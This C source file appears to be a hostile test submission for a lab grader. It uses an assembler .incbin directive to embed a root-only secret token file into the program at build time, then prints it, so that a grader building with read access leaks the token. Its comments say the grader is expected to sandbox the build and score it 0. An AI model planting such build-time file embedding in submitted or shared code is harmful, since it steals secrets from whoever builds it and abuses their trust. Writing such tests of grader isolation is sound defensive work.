/* SPDX-License-Identifier: MIT */
/*
 * incbin.c - a hostile "sender.c": it makes the assembler embed the
 * grader's secret in the program, and prints it when it runs.
 *
 * What it tries: the top-level asm block below has the assembler copy
 * /var/tmp/lab3-hostile.secret (a root-only file, mode 0600, holding a
 * random token that tests/long plants) into .rodata with .incbin, between
 * two labels of its own; main() prints those bytes on stdout and stderr
 * (at most 64 KiB) and exits 0.  A grader that builds as a user who can
 * read the file hands the token to the submission, which prints it into
 * the grader's report.  It never prints a key.
 *
 * It builds, standalone and as the kit's sender.c, only where the file
 * can be read; where it is absent or unreadable the assembler fails:
 * "Error: file not found: /var/tmp/lab3-hostile.secret" (gas), and the
 * build fails.
 *
 * What the grader must do: build in its sandbox, where the file cannot
 * be seen or read (the build fails, and that is a 0), and never show the
 * program's output unbounded or as it came.  Score 0, and the token
 * appears nowhere in the grader's output, log or results.
 *
 * The labels are .local (symbols of this object only, like a static), so
 * nothing clashes with the kit's objects; the C declarations are hidden
 * so that the references are PC-relative, with no GOT entry.
 */
#include <signal.h>
#include <stdio.h>

__asm__(
	"	.pushsection .rodata\n"
	"	.local hostile_secret_start\n"
	"	.local hostile_secret_end\n"
	"	.type hostile_secret_start, @object\n"
	"hostile_secret_start:\n"
	"	.incbin \"/var/tmp/lab3-hostile.secret\"\n"
	"hostile_secret_end:\n"
	"	.byte 0\n"
	"	.popsection\n");

extern const char hostile_secret_start[]
	__attribute__((visibility("hidden")));
extern const char hostile_secret_end[]
	__attribute__((visibility("hidden")));

int main(int argc, char **argv)
{
	size_t len = (size_t)(hostile_secret_end - hostile_secret_start);

	(void)argc;
	(void)argv;
	signal(SIGPIPE, SIG_IGN);
	if (len > 65536)
		len = 65536;
	if (len > 0 && hostile_secret_start[len - 1] == '\n')
		len--;
	fputs("incbin: embedded: ", stdout);
	fwrite(hostile_secret_start, 1, len, stdout);
	fputs("\n", stdout);
	fflush(stdout);
	fputs("incbin: embedded: ", stderr);
	fwrite(hostile_secret_start, 1, len, stderr);
	fputs("\n", stderr);
	return 0;
}
